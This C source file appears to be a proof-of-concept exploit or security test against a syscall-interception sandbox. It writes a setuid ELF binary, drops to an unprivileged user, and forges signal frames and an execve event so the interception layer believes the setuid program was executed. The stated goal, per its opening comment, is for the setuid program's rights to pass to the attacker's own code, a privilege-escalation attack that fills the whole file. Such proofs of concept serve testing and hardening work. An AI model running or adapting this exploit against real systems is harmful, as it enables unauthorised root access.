// Asks for a set-user-ID program and then says that it is in place, without ever having executed
// it: so the program's rights would come to code of one's own.
#include <elf.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "stub.h"

#define VICTIM "victim"
#define STACK_SIZE 0x100000UL

static void write_victim(void) {
  struct {
    Elf64_Ehdr header;
    Elf64_Phdr segment;
    unsigned char code[16];
  } image = {
      .header = {.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT},
                 .e_type = ET_EXEC,
                 .e_machine = EM_X86_64,
                 .e_version = EV_CURRENT,
                 .e_entry = 0x30000000 + sizeof(Elf64_Ehdr) + sizeof(Elf64_Phdr),
                 .e_phoff = sizeof(Elf64_Ehdr),
                 .e_ehsize = sizeof(Elf64_Ehdr),
                 .e_phentsize = sizeof(Elf64_Phdr),
                 .e_phnum = 1},
      .segment = {.p_type = PT_LOAD,
                  .p_flags = PF_R | PF_X,
                  .p_vaddr = 0x30000000,
                  .p_paddr = 0x30000000,
                  .p_filesz = sizeof image,
                  .p_memsz = sizeof image,
                  .p_align = 4096},
      .code = {0xeb, 0xfe},
  };
  int fd = open(VICTIM, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (fd < 0 || write(fd, &image, sizeof image) != sizeof image || fchmod(fd, 04755) != 0) {
    perror(VICTIM);
    exit(2);
  }
  close(fd);
}

// What the host leaves on the stack of a new program: no arguments, no environment, the vector.
static unsigned long forged_stack(void) {
  unsigned char *stack = mmap(NULL, STACK_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  unsigned long *top = (unsigned long *)(stack + STACK_SIZE / 2);
  static const unsigned long types[] = {AT_HWCAP, AT_PAGESZ, AT_CLKTCK, AT_SYSINFO_EHDR, AT_RANDOM, AT_HWCAP2};
  unsigned long *next = top;
  *next++ = 0;
  *next++ = 0;
  *next++ = 0;
  for (unsigned i = 0; i < sizeof types / sizeof types[0]; i++) {
    *next++ = types[i];
    *next++ = getauxval(types[i]);
  }
  *next++ = AT_NULL;
  *next++ = 0;
  return (unsigned long)top;
}

static void attack(void) {
  char *arguments[] = {VICTIM, NULL};
  char *environment[] = {NULL};
  long stack = (long)forged_stack();
  ucontext_t *frame =
      forged_frame(SYS_execve, (long)VICTIM, (long)arguments, (long)environment);
  long order = forged_event(SIGSYS, frame);
  if (order != ORDER_CALL) {
    printf("execve: %ld\n", order);
    exit(1);
  }
  frame = forged_frame(0, stack, 0, 0);
  stub_handler()(SIGILL, frame, frame);
  char text[64];
  int length = snprintf(text, sizeof text, "effective user %ld\n", syscall(SYS_geteuid));
  syscall(SYS_write, 1, text, length);
  syscall(SYS_exit_group, 0);
}

int main(void) {
  write_victim();
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("before\n");
  pid_t child = fork();
  if (child == 0) {
    if (setgid(1000) != 0 || setuid(1000) != 0) {
      exit(2);
    }
    attack();
  }
  int status;
  waitpid(child, &status, 0);
  printf("after %x\n", status);
  return 0;
}
